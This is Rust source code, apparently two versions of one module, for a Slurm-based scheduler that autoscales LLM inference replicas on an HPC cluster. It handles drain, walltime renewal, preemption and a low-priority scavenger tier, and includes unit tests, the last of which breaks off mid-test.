        assert_eq!(
            sched.routing.instances("m").len(),
            3,
            "avg 10 / target 4 -> 3 instances"
        );

        // Demand drains; after the window passes, scale back to min.
        drop(guards);
        for _ in 0..20 {
            cycle(&sched, &clock);
        }
        assert_eq!(sched.routing.instances("m").len(), 1);
        assert!(!launcher.terminated.lock().unwrap().is_empty());
    }

    #[test]
    fn respects_max_instances() {
        let (sched, clock, _l, _s) = setup(vec![svc("m", 1, 2)]);
        sched.run_once();
        let _guards: Vec<_> = (0..100).map(|_| sched.demand.begin("m")).collect();
        for _ in 0..10 {
            cycle(&sched, &clock);
        }
        assert_eq!(sched.routing.instances("m").len(), 2, "capped at max");
    }

    #[test]
    fn node_failure_recovers() {
        let (sched, clock, launcher, slurm) = setup(vec![svc("m", 1, 4)]);
        sched.run_once();
        cycle(&sched, &clock); // job starts, instance launched
        launcher.all_healthy();
        cycle(&sched, &clock); // probe succeeds
        let inst = sched.routing.instances("m")[0].clone();
        assert!(inst.ready);

        // Kill the node under the instance.
        slurm.lock().unwrap().fail_node(&inst.node, clock.now_us());
        let r = cycle(&sched, &clock);
        // Old instance gone, replacement submitted.
        assert!(sched.routing.instances("m").iter().all(|i| i.job_id != inst.job_id));
        assert_eq!(r.submitted.len(), 1);
        assert!(launcher.terminated.lock().unwrap().contains(&inst.job_id));
    }

    #[test]
    fn renewal_before_walltime_keeps_service_alive() {
        let mut spec = svc("m", 1, 4);
        spec.walltime = Duration::from_secs(600);
        let (sched, clock, launcher, _s) = setup(vec![spec]);
        let cfg_margin = Duration::from_secs(300);
        assert_eq!(SchedulerConfig::default().renew_margin, cfg_margin);

        sched.run_once();
        launcher.all_healthy();
        cycle(&sched, &clock);
        let first = sched.routing.instances("m")[0].job_id;

        // Walk to within the renew margin: a replacement appears.
        let mut renewed = false;
        for _ in 0..130 {
            let r = cycle(&sched, &clock);
            launcher.all_healthy();
            if !r.renewed.is_empty() {
                renewed = true;
                break;
            }
        }
        assert!(renewed, "no renewal before walltime");
        // After the old job times out, the service still has an instance.
        for _ in 0..80 {
            cycle(&sched, &clock);
            launcher.all_healthy();
        }
        let insts = sched.routing.instances("m");
        assert!(!insts.is_empty());
        assert!(insts.iter().all(|i| i.job_id != first), "old job expired");
    }

    #[test]
    fn lock_prevents_concurrent_runs() {
        let (sched, _c, _l, _s) = setup(vec![svc("m", 1, 1)]);
        let sched = Arc::new(sched);
        // Hold the lock manually and observe the skip.
        sched.lock.store(true, Ordering::SeqCst);
        let r = sched.run_once();
        assert!(r.skipped_locked);
        sched.lock.store(false, Ordering::SeqCst);
        let r = sched.run_once();
        assert!(!r.skipped_locked);
    }

    #[test]
    fn comment_parsing() {
        assert_eq!(
            ServiceScheduler::parse_comment("service=m;port=1234"),
            Some(("m".into(), 1234))
        );
        assert_eq!(ServiceScheduler::parse_comment("garbage"), None);
        assert_eq!(ServiceScheduler::parse_comment("service=m"), None);
    }

    #[test]
    fn non_service_jobs_ignored() {
        let (sched, clock, launcher, slurm) = setup(vec![svc("m", 1, 1)]);
        // A regular batch job shares the cluster.
        slurm.lock().unwrap().sbatch(
            crate::slurm::JobSpec {
                name: "training-run".into(),
                gpus_per_node: 4,
                duration: Some(Duration::from_secs(100)),
                ..Default::default()
            },
            0,
        );
        sched.run_once();
        cycle(&sched, &clock);
        // Only the service instance was launched.
        assert_eq!(launcher.launched.lock().unwrap().len(), 1);
    }
}
