//! The Slurm-native service scheduler — the paper's core contribution (§5.6).
//!
//! A "scheduler script" runs on the HPC service node, triggered by every
//! keepalive ping arriving over the SSH connection (every 5 s). Each run:
//!
//! 1. takes the lock (only one scheduler instance at a time — the paper
//!    uses a lock file);
//! 2. reconciles Slurm state: consumes job events, launches/terminates
//!    instance processes, updates the routing table;
//! 3. per service: samples demand, computes the desired instance count from
//!    the windowed average concurrency, submits missing jobs (`sbatch`)
//!    with scheduler-allocated random ports, cancels/expires excess ones,
//!    renews jobs approaching their walltime (the "continuously replaced or
//!    extended" requirement of §4), and probes not-yet-ready instances.
//!
//! Two pool tiers (the paper's "side by side with regular Slurm workloads,
//! while utilizing gaps in the schedule", §1):
//!
//! - **guaranteed** replicas: elevated priority, full walltime, renewed
//!   `renew_margin` before expiry — the paper's baseline;
//! - **scavenger** replicas: priority *below* batch, short walltime,
//!   preemptible, submitted only when `SlurmSim::gap_report` shows idle
//!   GPUs and a backfill window wide enough for the job — opportunistic
//!   capacity that arriving batch work reclaims via preemption.
//!
//! Replicas never die mid-request if the scheduler can help it: walltime
//! expiry, scale-down and preemption notices all route through a graceful
//! **drain** — the routing table stops placing new requests, the job is
//! scancelled once its in-flight load hits zero, and a drain deadline
//! bounds the wait.
//!
//! Everything is driven by explicit clock reads so the same code runs under
//! simulated months and live wall time.

pub mod instances;
pub mod routing;

pub use instances::{BackendKind, InstanceLauncher, MockLauncher, RealLauncher};
pub use routing::{DemandTracker, Instance, InstanceGuard, RoutingTable};

use std::collections::{BTreeMap, BTreeSet};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::slurm::{JobId, JobInfo, JobSpec, JobState, JobUpdate, SlurmSim};
use crate::util::clock::Clock;
use crate::util::metrics::Registry;
use crate::util::retry::{Backoff, RetryPolicy};
use crate::util::rng::Rng;

/// Declarative description of one service the scheduler maintains.
#[derive(Debug, Clone)]
pub struct ServiceSpec {
    /// Service/model name (also the route name at the gateway).
    pub name: String,
    pub min_instances: u32,
    pub max_instances: u32,
    /// Autoscaling target: desired = ceil(avg_concurrency / this).
    pub target_concurrency: f64,
    /// Resources one instance requests from Slurm.
    pub gpus: u32,
    pub cpus: u32,
    pub mem_gb: u32,
    /// Service-job walltime; jobs are renewed `renew_margin` before expiry.
    pub walltime: Duration,
    /// Scavenger-tier cap: up to this many extra replicas may be squeezed
    /// into schedule gaps when demand exceeds what `max_instances`
    /// guaranteed replicas cover. 0 disables the tier.
    pub max_scavengers: u32,
    /// Scale-from-zero keep-alive (dslab-faas-style): after the service
    /// last saw demand, at least one replica is kept warm for this long
    /// even when the windowed average rounds to zero — so a returning
    /// conversation does not pay a full weight-load cold start. Only
    /// meaningful for `min_instances == 0` groups; `Duration::ZERO`
    /// disables the floor.
    pub keep_alive: Duration,
    pub backend: BackendKind,
}

impl ServiceSpec {
    /// A simulated production model with paper-like resources.
    pub fn sim(name: &str, time_scale: f64) -> ServiceSpec {
        let profile = crate::llmserver::SimProfile::by_name(name)
            .unwrap_or_else(|| panic!("unknown sim profile {name}"));
        ServiceSpec {
            name: name.to_string(),
            min_instances: 1,
            max_instances: 4,
            target_concurrency: 4.0,
            gpus: profile.gpus,
            cpus: 8,
            mem_gb: 64,
            walltime: Duration::from_secs(12 * 3600),
            max_scavengers: 0,
            keep_alive: Duration::from_secs(300),
            backend: BackendKind::Sim { profile: name.to_string(), time_scale },
        }
    }

    /// The real PJRT-served tiny model.
    pub fn pjrt_tiny() -> ServiceSpec {
        ServiceSpec {
            name: "tiny".into(),
            min_instances: 1,
            max_instances: 2,
            target_concurrency: 4.0,
            gpus: 1,
            cpus: 4,
            mem_gb: 16,
            walltime: Duration::from_secs(12 * 3600),
            max_scavengers: 0,
            keep_alive: Duration::from_secs(300),
            backend: BackendKind::Pjrt { model: "tiny".into() },
        }
    }
}

/// Scheduler tuning.
#[derive(Debug, Clone)]
pub struct SchedulerConfig {
    /// Demand averaging window (§5.6 "predefined time window").
    pub demand_window: Duration,
    /// Renew service jobs when less than this walltime remains.
    pub renew_margin: Duration,
    /// Service jobs run at elevated priority so they outrank batch (§7.1.3).
    pub job_priority: i64,
    /// Scavenger jobs run BELOW batch priority, so arriving batch work
    /// outranks them — and, because they are preemptible, reclaims their
    /// GPUs after the grace window.
    pub scavenger_priority: i64,
    /// Scavenger-job walltime: short, so the jobs fit conservative-backfill
    /// windows instead of delaying pending batch work.
    pub scavenger_walltime: Duration,
    /// Graceful-drain budget: a draining replica is scancelled once its
    /// in-flight load reaches zero, or at this deadline, whichever is
    /// first. Also the walltime headroom in-flight requests are assumed to
    /// finish within.
    pub drain_grace: Duration,
    /// Functional account jobs are submitted under (§4 Monitoring).
    pub account: String,
    /// Opt-in crash-loop damper: after a service job dies abnormally
    /// (NODE_FAIL / TIMEOUT), further scale-up submissions for that
    /// service are held off by this jittered backoff — a service whose
    /// image is broken or whose nodes keep failing must not hammer the
    /// Slurm controller with a resubmit every keepalive tick. The holdoff
    /// resets the first time a replica becomes ready again. `None`
    /// (default) keeps the seed behaviour: immediate resubmission.
    pub resubmit_backoff: Option<RetryPolicy>,
}

impl Default for SchedulerConfig {
    fn default() -> SchedulerConfig {
        SchedulerConfig {
            demand_window: Duration::from_secs(60),
            renew_margin: Duration::from_secs(300),
            job_priority: 100,
            scavenger_priority: -10,
            scavenger_walltime: Duration::from_secs(900),
            drain_grace: Duration::from_secs(60),
            account: "svc-chat-ai".into(),
            resubmit_backoff: None,
        }
    }
}

/// Outcome of one scheduler run (observability + tests).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RunReport {
    pub skipped_locked: bool,
    pub submitted: Vec<JobId>,
    pub cancelled: Vec<JobId>,
    pub renewed: Vec<JobId>,
    pub became_ready: Vec<JobId>,
    /// Scavenger-tier submissions this run.
    pub scavenged: Vec<JobId>,
    /// Jobs newly flipped into graceful drain this run.
    pub drained: Vec<JobId>,
    /// Service jobs that received a Slurm preemption notice this run.
    pub preempted: Vec<JobId>,
}

/// The scheduler itself.
pub struct ServiceScheduler {
    slurm: Arc<Mutex<SlurmSim>>,
    clock: Arc<dyn Clock>,
    pub routing: RoutingTable,
    pub demand: DemandTracker,
    launcher: Arc<dyn InstanceLauncher>,
    services: Mutex<Vec<ServiceSpec>>,
    rng: Mutex<Rng>,
    lock: AtomicBool,
    cfg: SchedulerConfig,
    metrics: Registry,
    /// Draining jobs: id → (service, drain deadline). The deadline bounds
    /// how long the scheduler waits for in-flight load to reach zero
    /// before cancelling anyway.
    drains: Mutex<BTreeMap<JobId, (String, u64)>>,
    /// Resubmit holdoff per service: (backoff schedule, next-allowed-us).
    /// Populated only when `cfg.resubmit_backoff` is set.
    resubmit: Mutex<BTreeMap<String, (Backoff, u64)>>,
    /// Last time each service had demand (in-flight or a non-zero windowed
    /// average) — the anchor the keep-alive floor measures from.
    last_busy: Mutex<BTreeMap<String, u64>>,
}

impl ServiceScheduler {
    pub fn new(
        slurm: Arc<Mutex<SlurmSim>>,
        clock: Arc<dyn Clock>,
        launcher: Arc<dyn InstanceLauncher>,
        services: Vec<ServiceSpec>,
        cfg: SchedulerConfig,
        metrics: Registry,
    ) -> ServiceScheduler {
        // Unique port-allocation seed per scheduler instance: co-hosted
        // stacks (tests, multi-platform deployments on one box) must not
        // race for the same ports.
        static SEED: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0x5c_ed);
        let seed = SEED.fetch_add(0x9E37_79B9, Ordering::Relaxed);
        ServiceScheduler {
            slurm,
            clock,
            routing: RoutingTable::new(),
            demand: DemandTracker::new(),
            launcher,
            services: Mutex::new(services),
            rng: Mutex::new(Rng::new(seed)),
            lock: AtomicBool::new(false),
            cfg,
            metrics,
            drains: Mutex::new(BTreeMap::new()),
            resubmit: Mutex::new(BTreeMap::new()),
            last_busy: Mutex::new(BTreeMap::new()),
        }
    }

    /// Builder: pin the port-allocation RNG. The default draws a fresh
    /// seed per scheduler so co-hosted stacks never race for ports; the
    /// deterministic harness overrides it so two runs of one scenario
    /// allocate byte-identical ports.
    pub fn with_seed(self, seed: u64) -> ServiceScheduler {
        *self.rng.lock().unwrap() = Rng::new(seed);
        self
    }

    pub fn services(&self) -> Vec<ServiceSpec> {
        self.services.lock().unwrap().clone()
    }

    /// Add or replace a service at runtime (the paper's §7.1.2 automation
    /// gap — here it is one call).
    pub fn upsert_service(&self, spec: ServiceSpec) {
        let mut s = self.services.lock().unwrap();
        match s.iter_mut().find(|x| x.name == spec.name) {
            Some(slot) => *slot = spec,
            None => s.push(spec),
        }
    }

    fn job_name(service: &str) -> String {
        format!("svc-{service}")
    }

    fn parse_comment(comment: &str) -> Option<(String, u16, bool)> {
        let mut service = None;
        let mut port = None;
        let mut scavenger = false;
        for kv in comment.split(';') {
            match kv.split_once('=') {
                Some(("service", v)) => service = Some(v.to_string()),
                Some(("port", v)) => port = v.parse().ok(),
                Some(("tier", v)) => scavenger = v == "scavenger",
                _ => {}
            }
        }
        Some((service?, port?, scavenger))
    }

    /// One scheduler-script execution (triggered per keepalive ping).
    pub fn run_once(&self) -> RunReport {
        // The lock file: only one scheduler instance at a time (§5.6).
        if self.lock.swap(true, Ordering::SeqCst) {
            return RunReport { skipped_locked: true, ..Default::default() };
        }
        let report = self.run_locked();
        self.lock.store(false, Ordering::SeqCst);
        report
    }

    fn run_locked(&self) -> RunReport {
        let mut report = RunReport::default();
        let now = self.clock.now_us();
        let services = self.services();

        // --- reconcile Slurm events -------------------------------------
        let events = {
            let mut slurm = self.slurm.lock().unwrap();
            slurm.tick(now);
            slurm.drain_events()
        };
        for ev in events {
            match ev {
                JobUpdate::Started { id, nodes } => {
                    let Some(info) = self.slurm.lock().unwrap().job(id) else { continue };
                    let Some((service, port, scavenger)) = Self::parse_comment(&info.comment)
                    else {
                        continue; // not a service job
                    };
                    let Some(spec) = services.iter().find(|s| s.name == service) else {
                        continue;
                    };
                    let node = nodes.first().cloned().unwrap_or_default();
                    self.launcher.launch(id, spec, &node, port);
                    self.routing.upsert(Instance {
                        job_id: id,
                        service: service.clone(),
                        node,
                        port,
                        addr: format!("127.0.0.1:{port}"),
                        ready: false,
                        draining: false,
                        scavenger,
                        started_us: now,
                    });
                }
                JobUpdate::Finished { id, state } => {
                    // An abnormal death (node failure, walltime kill that
                    // slipped past the drain) arms the per-service resubmit
                    // holdoff when the damper is configured.
                    if matches!(state, JobState::NodeFail | JobState::Timeout) {
                        self.arm_resubmit_holdoff(id, now);
                    }
                    self.decommission(id, now);
                }
                JobUpdate::Preempted { id, kill_at_us } => {
                    // Preemption *notice*: the replica keeps running through
                    // the grace window — drain it so in-flight requests
                    // finish before Slurm's kill lands.
                    let Some(info) = self.slurm.lock().unwrap().job(id) else { continue };
                    let Some((service, _, _)) = Self::parse_comment(&info.comment) else {
                        continue; // a preempted batch job is not ours
                    };
                    self.metrics
                        .counter("sched_preemptions_total", &[("service", &service)])
                        .inc();
                    let deadline = self.drain_deadline(kill_at_us, now);
                    self.begin_drain(id, &service, deadline, "preempt", &mut report);
                    report.preempted.push(id);
                }
            }
        }

        // --- per-service reconciliation ----------------------------------
        let window_us = self.cfg.demand_window.as_micros() as u64;
        let renew_us = self.cfg.renew_margin.as_micros() as u64;
        let grace_us = self.cfg.drain_grace.as_micros() as u64;
        for spec in &services {
            self.demand.sample(&spec.name, now, window_us);
            let avg = self.demand.average(&spec.name);
            // Total replica demand, then the tier split: the guaranteed
            // tier covers up to `max_instances`; overflow (capped by
            // `max_scavengers`) is served opportunistically from gaps.
            let desired_total = (avg / spec.target_concurrency).ceil() as u32;
            let mut desired = desired_total.clamp(spec.min_instances, spec.max_instances);
            // Keep-alive floor (scale-from-zero groups): a service that saw
            // demand within `keep_alive` of now keeps one replica warm even
            // after the windowed average decays to zero, so a returning
            // conversation skips the weight-load cold start.
            if avg > 0.0 || self.demand.inflight(&spec.name) > 0 {
                self.last_busy.lock().unwrap().insert(spec.name.clone(), now);
            }
            let keep_alive_us = spec.keep_alive.as_micros() as u64;
            if desired == 0 && keep_alive_us > 0 && spec.max_instances > 0 {
                let warm = self
                    .last_busy
                    .lock()
                    .unwrap()
                    .get(&spec.name)
                    .map(|&t| now.saturating_sub(t) <= keep_alive_us)
                    .unwrap_or(false);
                if warm {
                    desired = 1;
                    self.metrics
                        .counter("sched_keepalive_warm_total", &[("service", &spec.name)])
                        .inc();
                }
            }
            self.metrics
                .gauge("sched_desired_instances", &[("service", &spec.name)])
                .set(desired as i64);

            let jobs = self.service_jobs(&spec.name);
            let (scav_jobs, guar_jobs): (Vec<JobInfo>, Vec<JobInfo>) = jobs
                .into_iter()
                .filter(|j| !j.state.is_terminal())
                .partition(|j| {
                    Self::parse_comment(&j.comment).map(|(_, _, s)| s).unwrap_or(false)
                });

            // ---- guaranteed tier ---------------------------------------
            // Jobs close to their walltime are "expiring": they cannot be
            // extended (batch semantics, §4) and no longer count toward
            // the pool — renewal falls out of ordinary scale-up, and
            // scale-down never cannibalises fresh replacements. Expiry
            // projects from the walltime each job was *submitted* with
            // (JobInfo.time_limit), not the current config: a config
            // change cannot stretch a job Slurm will still kill on time.
            let expiry_of = |j: &JobInfo| {
                j.start_us.unwrap_or(now).saturating_add(j.time_limit.as_micros() as u64)
            };
            let expiring = |j: &JobInfo| {
                j.state == JobState::Running && expiry_of(j).saturating_sub(now) < renew_us
            };

            // Graceful drain for expiring jobs. Flipping the routing flag
            // too early would open an availability gap while the
            // replacement cold-starts, so each drain must be *paired*
            // with a distinct routable NON-expiring guaranteed replica
            // (a fresh replacement, or a peer with real life left) — a
            // cohort of same-aged replicas must not cascade-drain against
            // each other. Unpaired drains happen only inside the last
            // `drain_grace` of walltime, the point past which in-flight
            // requests could no longer finish before the kill.
            let safe_ids: BTreeSet<JobId> =
                guar_jobs.iter().filter(|j| !expiring(j)).map(|j| j.id).collect();
            let mut safe_peers = self
                .routing
                .routable_instances(&spec.name)
                .iter()
                .filter(|i| !i.scavenger && safe_ids.contains(&i.job_id))
                .count();
            for j in guar_jobs.iter().filter(|j| expiring(j) && !self.is_drained(j.id)) {
                let remaining = expiry_of(j).saturating_sub(now);
                if safe_peers > 0 {
                    safe_peers -= 1; // this drain's traffic has a home
                } else if remaining > grace_us {
                    continue; // keep serving until a replacement is ready
                }
                let deadline = self.drain_deadline(expiry_of(j), now);
                self.begin_drain(j.id, &spec.name, deadline, "walltime", &mut report);
            }

            let countable: Vec<&JobInfo> = guar_jobs
                .iter()
                .filter(|j| !expiring(j) && !self.is_drained(j.id))
                .collect();
            let expiring_count = guar_jobs.iter().filter(|j| expiring(j)).count() as u32;

            // Scale up (covers walltime renewal: an expiring job stops
            // counting, so its replacement is submitted here) — unless the
            // service is inside its resubmit holdoff after an abnormal
            // death (crash-loop damper).
            if (countable.len() as u32) < desired {
                if self.resubmit_blocked(&spec.name, now) {
                    self.metrics
                        .counter("sched_resubmit_deferred_total", &[("service", &spec.name)])
                        .inc();
                } else {
                    for _ in 0..(desired - countable.len() as u32) {
                        let id = self.submit_job(spec, now, false);
                        if expiring_count > 0 {
                            report.renewed.push(id);
                        } else {
                            report.submitted.push(id);
                        }
                    }
                }
            }

            // Scale down through the drain path: pending victims first
            // (nothing in flight to protect), then the youngest running
            // ones — drained, not killed.
            if (countable.len() as u32) > desired {
                let excess = countable.len() as u32 - desired;
                self.scale_down(&countable, excess, &spec.name, now, &mut report);
            }

            // ---- scavenger tier ----------------------------------------
            let scav_desired = if desired_total > spec.max_instances {
                (desired_total - spec.max_instances).min(spec.max_scavengers)
            } else {
                0
            };

            // A scavenger nearing its (short) walltime drains; there is no
            // renewal — a replacement is submitted below only if a gap
            // still exists.
            let scav_wall_us = self.cfg.scavenger_walltime.as_micros() as u64;
            for j in scav_jobs.iter().filter(|j| {
                j.state == JobState::Running && !self.is_drained(j.id)
            }) {
                if expiry_of(j).saturating_sub(now) <= grace_us {
                    let deadline = self.drain_deadline(expiry_of(j), now);
                    self.begin_drain(j.id, &spec.name, deadline, "walltime", &mut report);
                }
            }

            let scav_countable: Vec<&JobInfo> =
                scav_jobs.iter().filter(|j| !self.is_drained(j.id)).collect();

            // Submit into gaps only: placeable *right now* (per-node
            // fragmentation and CPU/memory included, not just a free-GPU
            // total) AND a conservative-backfill window wide enough that
            // the scavenger cannot delay pending batch work (the sim
            // enforces the same bound).
            if (scav_countable.len() as u32) < scav_desired {
                let deficit = scav_desired - scav_countable.len() as u32;
                let probe = JobSpec {
                    nodes: 1,
                    gpus_per_node: spec.gpus,
                    cpus_per_node: spec.cpus,
                    mem_gb_per_node: spec.mem_gb,
                    time_limit: self.cfg.scavenger_walltime,
                    priority: self.cfg.scavenger_priority,
                    preemptible: true,
                    ..Default::default()
                };
                let fit = {
                    let slurm = self.slurm.lock().unwrap();
                    if slurm.gap_report(now).gap_us >= scav_wall_us {
                        slurm.placeable_count(&probe, deficit)
                    } else {
                        0
                    }
                };
                for _ in 0..fit {
                    let id = self.submit_job(spec, now, true);
                    report.scavenged.push(id);
                }
            }
            if (scav_countable.len() as u32) > scav_desired {
                let excess = scav_countable.len() as u32 - scav_desired;
                self.scale_down(&scav_countable, excess, &spec.name, now, &mut report);
            }
            self.metrics
                .gauge("sched_scavenger_instances", &[("service", &spec.name)])
                .set(
                    self.routing
                        .routable_instances(&spec.name)
                        .iter()
                        .filter(|i| i.scavenger)
                        .count() as i64,
                );

            // Readiness probing. A replica coming up healthy also clears
            // the service's resubmit holdoff (and resets its schedule).
            for inst in self.routing.instances(&spec.name) {
                if !inst.ready && self.launcher.probe(&inst.addr) {
                    self.routing.mark_ready(inst.job_id);
                    report.became_ready.push(inst.job_id);
                    self.resubmit.lock().unwrap().remove(&spec.name);
                }
            }
            self.metrics
                .gauge("sched_ready_instances", &[("service", &spec.name)])
                .set(self.routing.ready_instances(&spec.name).len() as i64);
        }

        // --- drain completion sweep --------------------------------------
        // A draining job is cancelled once nothing is in flight against it,
        // or when its drain deadline passes (forced: better to kill one
        // stuck request than to leak the allocation).
        let due: Vec<(JobId, String, u64)> = self
            .drains
            .lock()
            .unwrap()
            .iter()
            .map(|(&id, (svc, deadline))| (id, svc.clone(), *deadline))
            .collect();
        for (id, service, deadline) in due {
            let load = self.routing.instance_load(id);
            if load > 0 && now < deadline {
                continue; // still draining
            }
            if load > 0 {
                self.metrics
                    .counter("sched_drain_forced_total", &[("service", &service)])
                    .inc();
            }
            self.decommission(id, now);
            self.metrics
                .counter("sched_drain_completed_total", &[("service", &service)])
                .inc();
            report.cancelled.push(id);
        }
        report
    }

    fn is_drained(&self, id: JobId) -> bool {
        self.drains.lock().unwrap().contains_key(&id)
    }

    /// Push the dead job's service into (or further along) its resubmit
    /// holdoff. No-op unless `cfg.resubmit_backoff` is configured.
    fn arm_resubmit_holdoff(&self, id: JobId, now: u64) {
        let Some(policy) = self.cfg.resubmit_backoff else { return };
        let Some(info) = self.slurm.lock().unwrap().job(id) else { return };
        let Some((service, _, _)) = Self::parse_comment(&info.comment) else { return };
        let mut holdoffs = self.resubmit.lock().unwrap();
        let entry = holdoffs
            .entry(service.clone())
            .or_insert_with(|| (policy.backoff(0x5e5_0b1d), 0));
        entry.1 = now.saturating_add(entry.0.next_delay().as_micros() as u64);
        self.metrics
            .counter("sched_resubmit_holdoffs_total", &[("service", &service)])
            .inc();
    }

    /// Is guaranteed-tier scale-up currently held off for this service?
    fn resubmit_blocked(&self, service: &str, now: u64) -> bool {
        if self.cfg.resubmit_backoff.is_none() {
            return false;
        }
        self.resubmit.lock().unwrap().get(service).map(|e| now < e.1).unwrap_or(false)
    }

    /// Tear one replica down everywhere it is known: Slurm (scancel is a
    /// no-op on already-terminal jobs), the routing table (frees the
    /// reserved port), the launcher, and the drain book-keeping.
    fn decommission(&self, id: JobId, now: u64) {
        self.slurm.lock().unwrap().scancel(id, now);
        self.routing.remove(id);
        self.launcher.terminate(id);
        self.drains.lock().unwrap().remove(&id);
    }

    /// Deadline for the forced drain-cancel: a beat before the external
    /// kill (walltime expiry or preemption GraceTime), so a stuck request
    /// dies by controlled scancel instead of TIMEOUT/PREEMPTED — giving
    /// away at most half of whatever window actually remains, and at most
    /// half the configured `drain_grace`.
    fn drain_deadline(&self, kill_us: u64, now: u64) -> u64 {
        let margin = (self.cfg.drain_grace.as_micros() as u64 / 2)
            .min(kill_us.saturating_sub(now) / 2);
        kill_us.saturating_sub(margin).max(now + 1)
    }

    /// Flip a running job into graceful drain (idempotent; a later call
    /// can only tighten the deadline).
    fn begin_drain(
        &self,
        id: JobId,
        service: &str,
        deadline_us: u64,
        reason: &str,
        report: &mut RunReport,
    ) {
        let is_new = {
            let mut drains = self.drains.lock().unwrap();
            let prev = drains.remove(&id);
            let deadline = match &prev {
                Some((_, d)) => (*d).min(deadline_us), // only ever tighten
                None => deadline_us,
            };
            drains.insert(id, (service.to_string(), deadline));
            prev.is_none()
        };
        if is_new {
            self.routing.mark_draining(id);
            self.metrics
                .counter(
                    "sched_drain_started_total",
                    &[("service", service), ("reason", reason)],
                )
                .inc();
            report.drained.push(id);
        }
    }

    /// Remove `excess` replicas from `candidates`: pending jobs are
    /// cancelled outright (no traffic yet), then running jobs —
    /// youngest-first — are drained rather than killed.
    fn scale_down(
        &self,
        candidates: &[&JobInfo],
        excess: u32,
        service: &str,
        now: u64,
        report: &mut RunReport,
    ) {
        let mut remaining = excess as usize;
        for j in candidates.iter().filter(|j| j.state == JobState::Pending) {
            if remaining == 0 {
                return;
            }
            self.decommission(j.id, now);
            report.cancelled.push(j.id);
            remaining -= 1;
        }
        let mut running: Vec<&&JobInfo> =
            candidates.iter().filter(|j| j.state == JobState::Running).collect();
        running.sort_by_key(|j| std::cmp::Reverse(j.start_us.unwrap_or(0)));
        let deadline = now + self.cfg.drain_grace.as_micros() as u64;
        for j in running {
            if remaining == 0 {
                return;
            }
            self.begin_drain(j.id, service, deadline, "scaledown", report);
            remaining -= 1;
        }
    }

    fn service_jobs(&self, service: &str) -> Vec<JobInfo> {
        let name = Self::job_name(service);
        self.slurm
            .lock()
            .unwrap()
            .squeue()
            .into_iter()
            .filter(|j| j.name == name)
            .collect()
    }

    fn submit_job(&self, spec: &ServiceSpec, now: u64, scavenger: bool) -> JobId {
        let port = self.routing.alloc_port(&mut self.rng.lock().unwrap());
        // Scavenger jobs invert the guaranteed tier's Slurm posture: below
        // batch priority instead of above, a short walltime that fits
        // backfill windows, and preemptible so batch reclaims them.
        let (priority, walltime) = if scavenger {
            (self.cfg.scavenger_priority, self.cfg.scavenger_walltime)
        } else {
            (self.cfg.job_priority, spec.walltime)
        };
        let mut comment = format!("service={};port={port}", spec.name);
        if scavenger {
            comment.push_str(";tier=scavenger");
        }
        let job = JobSpec {
            name: Self::job_name(&spec.name),
            account: self.cfg.account.clone(),
            nodes: 1,
            gpus_per_node: spec.gpus,
            cpus_per_node: spec.cpus,
            mem_gb_per_node: spec.mem_gb,
            time_limit: walltime,
            priority,
            duration: None,
            preemptible: scavenger,
            comment,
        };
        let id = self.slurm.lock().unwrap().sbatch(job, now);
        // Reserve the port in the routing table immediately (pending, not
        // ready) so concurrent allocations can't collide.
        self.routing.upsert(Instance {
            job_id: id,
            service: spec.name.clone(),
            node: String::new(),
            port,
            addr: format!("127.0.0.1:{port}"),
            ready: false,
            draining: false,
            scavenger,
            started_us: now,
        });
        self.metrics.counter("sched_jobs_submitted_total", &[("service", &spec.name)]).inc();
        id
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::slurm::ClusterSpec;
    use crate::util::clock::SimClock;

    fn setup(
        services: Vec<ServiceSpec>,
    ) -> (ServiceScheduler, Arc<SimClock>, Arc<MockLauncher>, Arc<Mutex<SlurmSim>>) {
        let slurm = Arc::new(Mutex::new(SlurmSim::new(ClusterSpec::kisski())));
        let clock = SimClock::new();
        let launcher = MockLauncher::new();
        let sched = ServiceScheduler::new(
            slurm.clone(),
            clock.clone(),
            launcher.clone(),
            services,
            SchedulerConfig::default(),
            Registry::new(),
        );
        (sched, clock, launcher, slurm)
    }

    fn svc(name: &str, min: u32, max: u32) -> ServiceSpec {
        ServiceSpec {
            name: name.into(),
            min_instances: min,
            max_instances: max,
            target_concurrency: 4.0,
            gpus: 2,
            cpus: 8,
            mem_gb: 64,
            walltime: Duration::from_secs(3600),
            max_scavengers: 0,
            keep_alive: Duration::ZERO,
            backend: BackendKind::Sim { profile: "intel-neural-7b".into(), time_scale: 0.0 },
        }
    }

    /// A scheduler on a custom (usually small) cluster.
    fn setup_on(
        cluster: ClusterSpec,
        services: Vec<ServiceSpec>,
        cfg: SchedulerConfig,
    ) -> (ServiceScheduler, Arc<SimClock>, Arc<MockLauncher>, Arc<Mutex<SlurmSim>>) {
        let slurm = Arc::new(Mutex::new(SlurmSim::new(cluster)));
        let clock = SimClock::new();
        let launcher = MockLauncher::new();
        let sched = ServiceScheduler::new(
            slurm.clone(),
            clock.clone(),
            launcher.clone(),
            services,
            cfg,
            Registry::new(),
        );
        (sched, clock, launcher, slurm)
    }

    fn small_cluster(gpus: u32) -> ClusterSpec {
        ClusterSpec {
            nodes: 1,
            gpus_per_node: gpus,
            cpus_per_node: 64,
            mem_gb_per_node: 512,
            prefix: "n".into(),
        }
    }

    /// Advance 5 s and run (one keepalive cycle).
    fn cycle(sched: &ServiceScheduler, clock: &SimClock) -> RunReport {
        clock.advance(Duration::from_secs(5));
        sched.run_once()
    }

    #[test]
    fn maintains_min_instances_and_marks_ready() {
        let (sched, clock, launcher, _slurm) = setup(vec![svc("m", 2, 4)]);
        let r1 = sched.run_once();
        assert_eq!(r1.submitted.len(), 2);
        // Next cycle: jobs started, instances launched, not ready yet.
        let _ = cycle(&sched, &clock);
        assert_eq!(launcher.launched.lock().unwrap().len(), 2);
        assert_eq!(sched.routing.ready_instances("m").len(), 0);
        // Model finishes loading -> probes succeed -> ready.
        launcher.all_healthy();
        let r3 = cycle(&sched, &clock);
        assert_eq!(r3.became_ready.len(), 2);
        assert_eq!(sched.routing.ready_instances("m").len(), 2);
        // Steady state: nothing more to do.
        let r4 = cycle(&sched, &clock);
        assert!(r4.submitted.is_empty() && r4.cancelled.is_empty());
    }

    #[test]
    fn ports_are_unique_across_jobs() {
        let (sched, clock, _l, _s) = setup(vec![svc("a", 3, 3), svc("b", 3, 3)]);
        sched.run_once();
